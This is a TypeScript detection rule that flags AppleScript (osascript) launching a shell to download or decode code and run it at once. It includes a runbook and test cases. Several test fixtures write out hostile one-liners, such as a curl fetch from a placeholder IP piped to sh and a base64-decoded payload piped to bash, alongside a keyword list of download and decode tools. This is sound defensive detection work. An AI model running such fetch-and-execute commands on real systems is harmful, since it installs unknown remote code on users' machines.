import { runsOutputOf } from '../../src/detect/reading/command-flow.ts'
import { baseName } from '../../src/detect/reading/paths.ts'
import { isProgramStart } from '../../src/detect/reading/program-start.ts'
import { rule, table } from '../../src/detect/rule.ts'

const SOURCES = ['curl', 'wget', 'base64', 'openssl', 'xxd', 'gunzip', 'funzip'] as const

export default rule({
  id: 'macos.script-runs-download',
  title: 'AppleScript runs a shell with code it fetches or unpacks',
  severity: 'high',
  on: table('es_process_events'),
  attack: ['T1059.002', 'T1059.004', 'T1105'],
  means:
    'osascript started a shell that downloads or decodes code and runs it at once. It is the first step of droppers that come as a document, a fake update or a line to paste, and leaves nothing on the disk.',
  check:
    "SELECT e.time, e.pid, e.parent, e.path, e.cmdline, e.username, p.path AS parent_path FROM es_process_events e LEFT JOIN processes p ON p.pid = e.parent WHERE e.event_type = 'exec' AND e.time > (SELECT unix_time - 3600 FROM time);",
  benign:
    'An installer of a tool for developers that wraps its usual curl line for people without a terminal.',
  detect: ({ columns: { event_type, path, cmdline } }) =>
    isProgramStart({ event_type }) && baseName(path) === 'osascript' && runsOutputOf(cmdline, ...SOURCES),
  alertTitle: ({ host, columns }) => `AppleScript on ${host} runs code it fetches: ${columns.cmdline}`,
  dedup: ({ hostId, columns }) => `${hostId} ${columns.username}`,
  context: ({ columns }) => ({
    command: columns.cmdline,
    user: columns.username,
    pid: columns.pid,
    parent: columns.parent,
    folder: columns.cwd,
    time: columns.time,
  }),
  runbook:
    'Fetch the address or decode the code from a safe machine to see what it does. Ask the user what they opened or pasted. If it is not theirs: isolate the Mac, block the address, and look at what the shell started next and at new launch items.',
  references: [
    'https://attack.mitre.org/techniques/T1059/002/',
    'https://attack.mitre.org/techniques/T1105/',
  ],
  tests: [
    {
      name: 'fetched',
      match: true,
      columns: {
        event_type: 'exec',
        path: '/usr/bin/osascript',
        cmdline: 'osascript -e do shell script "curl -fsSL http://192.0.2.7/a | sh"',
        username: 'ada',
        pid: '7',
        parent: '6',
        cwd: '/',
        time: '1700000000',
      },
      title:
        'AppleScript on test-host runs code it fetches: osascript -e do shell script "curl -fsSL http://192.0.2.7/a | sh"',
      dedup: 'test-host-id ada',
      severity: 'high',
      context: {
        command: 'osascript -e do shell script "curl -fsSL http://192.0.2.7/a | sh"',
        user: 'ada',
        pid: '7',
        parent: '6',
        folder: '/',
        time: '1700000000',
      },
    },
    {
      name: 'decoded',
      match: true,
      columns: {
        path: '/usr/bin/osascript',
        cmdline: 'osascript -e do shell script "echo Y3VybA== | base64 -D | bash &> /dev/null &"',
      },
    },
    {
      name: 'only fetched',
      match: false,
      columns: {
        path: '/usr/bin/osascript',
        cmdline: 'osascript -e do shell script "curl -s https://weather.example.com/now"',
      },
    },
    {
      name: 'a program of the app',
      match: false,
      columns: {
        path: '/usr/bin/osascript',
        cmdline:
          'osascript -e do shell script "/bin/rm -Rf /opt/vagrant /usr/local/bin/vagrant" with administrator privileges',
      },
    },
    {
      name: 'no shell at all',
      match: false,
      columns: {
        path: '/usr/bin/osascript',
        cmdline: 'osascript -e tell application "Terminal" to activate',
      },
    },
    {
      name: 'another program',
      match: false,
      columns: { path: '/bin/echo', cmdline: 'echo do shell script "curl http://192.0.2.7/a | sh"' },
    },
    {
      name: 'it ends',
      match: false,
      columns: {
        event_type: 'exit',
        path: '/usr/bin/osascript',
        cmdline: 'osascript -e do shell script "curl http://192.0.2.7/a | sh"',
      },
    },
    {
      name: 'the row leaves the result',
      match: false,
      action: 'removed',
      columns: {
        path: '/usr/bin/osascript',
        cmdline: 'osascript -e do shell script "curl http://192.0.2.7/a | sh"',
      },
    },
  ],
})
